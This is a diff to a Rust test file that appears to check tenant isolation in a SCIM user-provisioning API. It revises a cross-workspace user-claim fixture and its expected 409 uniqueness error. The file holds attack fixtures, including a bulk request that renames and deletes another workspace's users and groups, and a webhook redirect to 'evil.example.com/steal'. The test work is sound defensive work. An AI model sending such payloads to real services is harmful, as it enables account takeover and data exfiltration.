@@ -76,10 +76,13 @@ const GUESSED_INVITATION: &str = r#"{"token":"inv_guessed"}"#;
 const RENAME: &str = r#"{"nickname":"taken over"}"#;
 const DISABLE: &str = r#"{"status":"disabled"}"#;
 /// B "creates" a user with A's userName: the create is idempotent on userName, so a lookup
-/// that crossed workspaces would answer 200 with A's user. The weak password makes the
-/// correct path (no such user in B: create) stop before writing anything.
-const CLAIM_USER_NAME: &str =
-    r#"{"schemas":["urn:ietf:params:scim:schemas:core:2.0:User"],"userName":"{userName}","password":"x"}"#;
+/// that crossed workspaces would answer 200 with A's user. The primary email is B's own
+/// admin's (`{bEmail}`), so the correct path (no such user in B: create) fails on B's unique
+/// sign-in email and writes nothing.
+const CLAIM_USER_NAME: &str = concat!(
+    r#"{"schemas":["urn:ietf:params:scim:schemas:core:2.0:User"],"userName":"{userName}","#,
+    r#""emails":[{"value":"{bEmail}","primary":true}]}"#
+);
 const SEARCH_USER: &str =
     r#"{"schemas":["urn:ietf:params:scim:api:messages:2.0:SearchRequest"],"filter":"userName eq \"{userName}\""}"#;
 const SEARCH_GROUP: &str =
@@ -106,7 +109,8 @@ const BULK_ATTACK: &str = concat!(
     r#"{"method":"PUT","path":"/Groups/{groupId}","data":{"displayName":"taken over","members":[]}},"#,
     r#"{"method":"DELETE","path":"/Users/{userId}","version":"W/\"1\""},"#,
     r#"{"method":"DELETE","path":"/Groups/{groupId}"},"#,
-    r#"{"method":"POST","path":"/Users","bulkId":"claim","data":{"userName":"{userName}","password":"x"}}]}"#
+    r#"{"method":"POST","path":"/Users","bulkId":"claim","data":{"userName":"{userName}","#,
+    r#""emails":[{"value":"{bEmail}","primary":true}]}}]}"#
 );
 const REDIRECT_HOOK: &str = r#"{"url":"https://evil.example.com/steal","enabled":true}"#;
 const ROTATE_NOW: &str = r#"{"overlapSeconds":0}"#;
@@ -166,7 +170,7 @@ const MATRIX: &[(&str, &str, &str, &[Check])] = &[
     ("POST", "/api/scim/v2/.search", SEARCH_USER, &[WrongKind(B::Pat)]),
     ("POST", "/api/scim/v2/Bulk", BULK_ATTACK, &[OwnOnly(B::Scim), WrongKind(B::Pat)]),
     ("GET", "/api/scim/v2/Users", NONE, &[OwnOnly(B::Scim)]),
-    ("POST", "/api/scim/v2/Users", CLAIM_USER_NAME, &[Cross(B::Scim, 400, "SCIM_INVALID_VALUE")]),
+    ("POST", "/api/scim/v2/Users", CLAIM_USER_NAME, &[Cross(B::Scim, 409, "SCIM_UNIQUENESS")]),
     ("POST", "/api/scim/v2/Users/.search", SEARCH_USER, &[OwnOnly(B::Scim)]),
     ("GET", "/api/scim/v2/Users/{id}", NONE, &[Cross(B::Scim, 404, USER_NF), WrongKind(B::Pat)]),
     ("PUT", "/api/scim/v2/Users/{id}", REPLACE_USER, &[Cross(B::Scim, 404, USER_NF)]),
@@ -586,6 +590,7 @@ fn play(b_admin: &str) {
     let mut failures = Vec::new();
     for (method, path, body, checks) in MATRIX {
         let (url, body) = a.fill(path, body);
+        let body = body.replace("{bEmail}", b_admin);
         for check in *checks {
             if let Err(e) = attack(&a, &x, method, &url, &body, *check) {
                 failures.push(format!("{method} {path} {check:?}: {e}"));
